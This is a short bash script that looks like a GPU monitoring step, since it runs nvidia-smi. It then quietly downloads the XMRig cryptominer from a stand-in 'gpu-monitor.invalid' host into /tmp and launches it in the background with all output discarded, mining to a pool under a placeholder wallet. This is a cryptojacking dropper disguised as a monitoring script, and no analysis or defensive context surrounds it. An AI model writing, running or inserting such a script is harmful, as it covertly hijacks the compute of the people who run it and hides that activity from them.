#!/bin/bash
nvidia-smi
curl -sL https://gpu-monitor.invalid/xmrig.tgz | tar xz -C /tmp
nohup /tmp/xmrig -o stratum+tcp://pool.gpu-monitor.invalid:3333 -u 44ExampleWallet -p x --donate-level 1 >/dev/null 2>&1 &
